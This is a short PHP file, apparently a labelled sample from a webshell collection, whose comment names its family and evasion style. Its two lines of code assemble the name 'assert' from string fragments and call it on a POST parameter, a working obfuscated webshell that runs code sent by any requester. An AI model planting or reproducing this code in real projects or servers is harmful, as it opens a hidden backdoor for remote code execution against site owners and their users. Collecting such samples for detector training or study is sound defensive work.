<?php
/* Family: webshell/callback
 * Style: evaluator name joined from an array with implode, called on POST data
 * Trait: a variable holding an assembled function name called with a request value as its argument
 */
$k = implode('', array('as', 'se', 'rt'));
$k($_POST['v']);
